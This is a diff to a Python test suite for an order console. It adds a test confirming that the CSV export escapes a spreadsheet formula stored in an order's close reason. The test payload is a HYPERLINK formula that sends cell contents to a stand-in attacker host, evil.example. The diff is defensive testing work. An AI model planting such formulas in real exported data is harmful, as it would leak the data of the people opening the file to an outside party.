@@ -6,9 +6,12 @@ API's; acknowledging alarms; creating and disabling an agent."""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from collections.abc import Iterator
 from dataclasses import dataclass
+from datetime import datetime, timezone
 from typing import Any
 from uuid import UUID
 
@@ -277,10 +280,19 @@ def test_the_orders_pages_follow_the_api_cursor(ops: Ops, monkeypatch: pytest.Mo
 
 
 def test_the_csv_is_the_apis_and_the_order_page_shows_the_bill_the_pricer_gives(ops: Ops) -> None:
+    stopping = next(o["trade_no"] for o in ops.orders_of(ops.a) if o["state"] == "stopping")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    ops.ledger.force_close(stopping, at=datetime(2026, 11, 22, 9, tzinfo=timezone.utc), reason=formula,
+                           author="alpha")
+    ops.projections.catch_up()
     alpha = ops.signed_in("alpha")
     api = operator_headers(ops.app, TENANT_ADMIN, ops.a.tenant_id)
-    page = alpha.get("/console/orders.csv?state=finished")
+    page = alpha.get("/console/orders.csv?state=abandoned")
     assert page.headers["content-type"].startswith("text/csv")
+    rows = list(csv.DictReader(io.StringIO(page.text)))
+    assert [(r["trade_no"], r["reason"]) for r in rows] == [(stopping, "'" + formula)]  # not a formula
+    assert page.text == ops.client.get("/operator/v1/orders.csv?state=abandoned", headers=api).text
+    page = alpha.get("/console/orders.csv?state=finished")
     assert page.text == ops.client.get("/operator/v1/orders.csv?state=finished", headers=api).text
     assert alpha.get("/console/orders.csv?from=yesterday").status_code == 422
 
